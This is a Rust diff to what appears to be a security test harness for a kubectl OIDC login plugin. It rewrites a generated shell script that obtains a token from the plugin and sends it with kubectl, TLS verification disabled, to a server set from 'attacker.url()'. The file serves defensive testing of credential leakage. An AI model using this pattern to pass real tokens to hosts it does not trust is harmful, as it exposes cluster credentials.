@@ -407,10 +407,11 @@ impl Programs {
             .map(|word| format!("'{word}'"))
             .collect();
         let text = format!(
-            "answer=$(kubectl-oidc_login {}) || exit $?\n\
+            "answer=$(KUBERNETES_EXEC_INFO='{}' kubectl-oidc_login {}) || exit $?\n\
              token=$(printf %s \"$answer\" | sed 's/.*\"token\":\"\\([^\"]*\\)\".*/\\1/')\n\
              exec kubectl --kubeconfig /dev/null --server \"$WHERE\" --insecure-skip-tls-verify \\\n  \
              --token \"$token\" get --raw /api\n",
+            scene.exec_info_without_cluster(),
             plugin.join(" ")
         );
         fs::write(&script, text)?;
@@ -450,15 +451,6 @@ impl Programs {
         command.args(arguments.iter().map(|word| told(word)));
         command.envs(variables.iter().map(|(name, value)| (name, told(value))));
         command.env("WHERE", attacker.url());
-        command.env(
-            "KUBERNETES_EXEC_INFO",
-            json!({
-                "apiVersion": "client.authentication.k8s.io/v1",
-                "kind": "ExecCredential",
-                "spec": { "interactive": false },
-            })
-            .to_string(),
-        );
         said(command.output().context("can't be started")?)
     }
 }
